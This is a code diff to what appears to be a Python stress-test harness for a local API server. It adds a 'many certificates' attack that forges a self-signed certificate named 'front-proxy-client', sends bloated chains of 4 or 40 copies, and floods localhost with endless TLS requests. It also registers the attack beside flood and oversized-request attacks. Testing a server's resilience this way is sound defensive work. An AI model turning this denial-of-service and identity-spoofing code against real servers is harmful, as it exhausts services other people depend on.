@@ -351,6 +351,41 @@ async def hammer(demo, head, known, body=b"", connections=8):
     return f"{sent / MIB:.0f} MiB over {connections} connections at a time, {refused} ended"
 
 
+async def certificates(demo):
+    """A stranger's certificates: as many as are looked at, on connections that go on asking, and far too many."""
+    folder = Path(demo.certificate).parent
+    key, leaf = folder / "stranger.key", folder / "stranger.crt"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:4096", "-nodes", "-subj", "/CN=front-proxy-client",
+                    "-keyout", key, "-out", leaf, "-days", "1"], check=True, capture_output=True)
+    sent = refused = 0
+    async def attack(count):
+        nonlocal sent, refused
+        chain = folder / f"stranger-{count}.pem"
+        chain.write_text(leaf.read_text() * count)
+        context = demo.context("http/1.1")
+        context.load_cert_chain(chain, key)
+        head = f"GET {demo.path}?{demo.query} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+        while True:
+            try:
+                reader, writer = await asyncio.wait_for(asyncio.open_connection(
+                    "127.0.0.1", demo.port, ssl=context, local_addr=(STRANGER, 0)), PATIENCE)
+            except OSError:
+                refused += 1
+                continue
+            reading = asyncio.create_task(swallow(reader))
+            try:
+                while True:
+                    await send(writer, head, reading)
+                    sent += 1
+            except OSError:
+                refused += 1
+            finally:
+                reading.cancel()
+                writer.transport.abort()
+    await until_refused(asyncio.gather(*(attack(count) for count in (4, 4, 4, 4, 40, 40))))
+    return f"{sent} asks behind 4 or 40 of them, {refused} connections ended"
+
+
 async def selectors(demo):
     terms = ",".join(["queue"] * 10_000)
     head = f"GET {demo.path}?labelSelector={terms} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
@@ -378,6 +413,7 @@ ATTACKS = {
     "ping flood": ping_flood,
     "continuation flood": continuation_flood,
     "answers not taken": unread_streams,
+    "many certificates": certificates,
     "10,000-term selectors": selectors,
     "big bodies": bodies,
     "long URLs": urls,
